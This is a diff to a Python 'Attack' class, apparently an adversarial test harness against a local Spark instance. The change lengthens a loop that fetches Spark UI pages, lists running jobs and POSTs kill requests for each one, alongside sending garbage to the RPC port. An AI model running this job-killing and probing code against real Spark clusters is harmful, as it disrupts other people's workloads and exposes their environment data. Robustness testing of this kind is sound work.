@@ -29,6 +29,7 @@ OPEN_BLOCKS, STREAM_HANDLE = 0, 3
 CHUNK_REQUEST, CHUNK, RPC_REQUEST, RPC_RESPONSE = 0, 1, 3, 4
 LZ4_HEAD, LZ4_METHOD = 13, 0x20
 BLOCK_SECONDS = KILL_SECONDS = 5.0
+ENOUGH_KILLS, MOST_SECONDS = 10, 60.0
 PAGES = [
     *("/environment/", "/SQL/", "/StreamingQuery/", "/jobs/", "/stages/", "/executors/", "/storage/", "/metrics"),
     *("/executors/threadDump/?executorId=driver", "/metrics/json/", "/api/v1/applications"),
@@ -60,10 +61,9 @@ class Attack:
             if answer.startswith(b"!y"):
                 self.answered_calls.append(answer.decode(errors="replace"))
         self._take_blocks()
-        for page in PAGES:
-            if not self._http("GET", page).startswith(b"HTTP/1."):
-                break
-        else:
+        if self._http("GET", "/").startswith(b"HTTP/1."):
+            for page in PAGES:
+                self._http("GET", page)
             self._kill_jobs()
         for garbage in GARBAGE:
             self._answer(garbage, seconds=0.2)
@@ -91,13 +91,13 @@ class Attack:
         head = (
             f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{self.port}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"
         )
-        return self._answer(head.encode(), seconds=5.0)
+        return self._answer(head.encode(), seconds=15.0)
 
     def _kill_jobs(self) -> None:
         """Tells the Spark UI for a while to kill every job that it says is running."""
         app = re.search(rb'"id" : "([^"]+)"', self._http("GET", "/api/v1/applications"))
-        until = time.monotonic() + KILL_SECONDS
-        while app and time.monotonic() < until:
+        began = time.monotonic()
+        while app and time.monotonic() < began + (KILL_SECONDS if self.kills > ENOUGH_KILLS else MOST_SECONDS):
             running = self._http("GET", f"/api/v1/applications/{app[1].decode()}/jobs?status=running")
             for job in re.findall(rb'"jobId" : (\d+)', running):
                 self._http("POST", f"/jobs/job/kill/?id={job.decode()}")
